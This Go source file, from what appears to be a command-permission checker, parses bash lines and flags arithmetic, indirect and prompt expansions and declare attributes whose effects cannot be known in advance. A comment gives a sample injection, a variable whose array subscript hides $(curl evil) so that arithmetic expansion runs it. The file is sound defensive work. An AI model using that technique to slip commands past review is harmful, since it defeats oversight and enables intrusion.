package permission

import (
	"strings"

	"mvdan.cc/sh/v3/syntax"
)

// Bash evaluates a variable's value as an arithmetic expression wherever it does
// arithmetic — $((x)), ((x)), let, for ((…)), a subscript a[x], ${s:x}, [[ x -eq 1 ]] —
// and an expression's subscript can run a command: x='a[$(curl evil)]'; echo $((x))
// runs curl though no word of the line names it. ${!x} reads x's value as a name (and
// its subscript), ${x@P} expands it as a prompt (with its $(…)), ${x:=v} assigns. So
// these are asked about unless their arithmetic is numbers alone; declare's attributes
// that re-evaluate (-i), alias (-n) or export (-x) are judged as well.

// expansion records why n, when it is an expansion or declaration of that kind,
// cannot be known.
func (l *shellLine) expansion(src string, n syntax.Node) {
	switch n := n.(type) {
	case *syntax.ArithmExp:
		l.arithmetic(src, n.X)
	case *syntax.ArithmCmd:
		l.arithmetic(src, n.X)
	case *syntax.LetClause:
		for _, x := range n.Exprs {
			l.arithmetic(src, x)
		}
	case *syntax.CStyleLoop:
		l.arithmetic(src, n.Init)
		l.arithmetic(src, n.Cond)
		l.arithmetic(src, n.Post)
	case *syntax.Assign:
		l.arithmetic(src, n.Index)
	case *syntax.ParamExp:
		l.arithmetic(src, n.Index)
		if n.Slice != nil {
			l.arithmetic(src, n.Slice.Offset)
			l.arithmetic(src, n.Slice.Length)
		}
		switch {
		case n.Excl && n.Names == 0:
			l.unknown = append(l.unknown, source(src, n)+" reads a variable named by another's value")
		case n.Exp != nil && (n.Exp.Op == syntax.AssignUnset || n.Exp.Op == syntax.AssignUnsetOrNull):
			l.unknown = append(l.unknown, source(src, n)+" assigns a variable")
		case n.Exp != nil && n.Exp.Op == syntax.OtherParamOps:
			l.unknown = append(l.unknown, source(src, n)+" transforms a value, which can run what it holds")
		}
	case *syntax.BinaryTest:
		switch n.Op {
		case syntax.TsEql, syntax.TsNeq, syntax.TsLeq, syntax.TsGeq, syntax.TsLss, syntax.TsGtr:
			for _, x := range []syntax.TestExpr{n.X, n.Y} {
				if w, ok := x.(*syntax.Word); !ok || !isNumber(w.Lit()) {
					l.unknown = append(l.unknown, "[[ "+source(src, n)+" ]] evaluates "+source(src, x)+" as arithmetic")
					return
				}
			}
		}
	case *syntax.UnaryTest:
		if n.Op == syntax.TsVarSet {
			if w, ok := n.X.(*syntax.Word); !ok || !validName(w.Lit()) {
				l.unknown = append(l.unknown, "[[ "+source(src, n)+" ]] evaluates a subscript")
			}
		}
	case *syntax.WordIter:
		if why := localWhy(n.Name.Value); why != "" {
			l.unknown = append(l.unknown, "the loop "+why)
		}
	case *syntax.DeclClause:
		l.declare(n)
	}
}

// arithmetic records x as unknown unless it is numbers and operators alone.
func (l *shellLine) arithmetic(src string, x syntax.ArithmExpr) {
	if x == nil {
		return
	}
	literal := true
	syntax.Walk(x, func(n syntax.Node) bool {
		switch n := n.(type) {
		case *syntax.Lit:
			literal = literal && isNumber(n.Value)
		case nil, *syntax.Word, *syntax.BinaryArithm, *syntax.UnaryArithm, *syntax.ParenArithm:
		default:
			literal = false
		}
		return literal
	})
	if !literal {
		l.unknown = append(l.unknown, "arithmetic on "+source(src, x)+", which bash evaluates as an expression that can run a command")
	}
}

// declare judges export, declare, local, readonly and typeset: the variables each sets,
// given to commands when exported, and the attributes that make a name an alias (-n) or
// its values arithmetic (-i).
func (l *shellLine) declare(d *syntax.DeclClause) {
	exported := d.Variant.Value == "export"
	if d.Variant.Value == "nameref" {
		l.unknown = append(l.unknown, "nameref makes a name stand for another variable")
		return
	}
	for _, a := range d.Args {
		if a.Naked && a.Name == nil && a.Value != nil {
			flags := a.Value.Lit()
			if !strings.HasPrefix(flags, "-") || strings.Trim(flags[1:], "aAgrlupfFtx") != "" {
				l.unknown = append(l.unknown, d.Variant.Value+" "+flags+" gives a variable an attribute not modelled")
				return
			}
			exported = exported || strings.Contains(flags, "x")
		}
	}
	for _, a := range d.Args {
		if a.Name == nil {
			continue
		}
		why := localWhy(a.Name.Value)
		if exported {
			why = exportWhy(a.Name.Value)
		}
		if why != "" {
			l.unknown = append(l.unknown, why)
		}
	}
}

// isNumber reports whether s is a number as bash's arithmetic reads one (10, 0x1f, 8#17).
func isNumber(s string) bool {
	if s == "" {
		return false
	}
	for _, c := range s {
		if !(c >= '0' && c <= '9' || c >= 'a' && c <= 'f' || c >= 'A' && c <= 'F' || c == 'x' || c == 'X' || c == '#') {
			return false
		}
	}
	return s[0] >= '0' && s[0] <= '9'
}
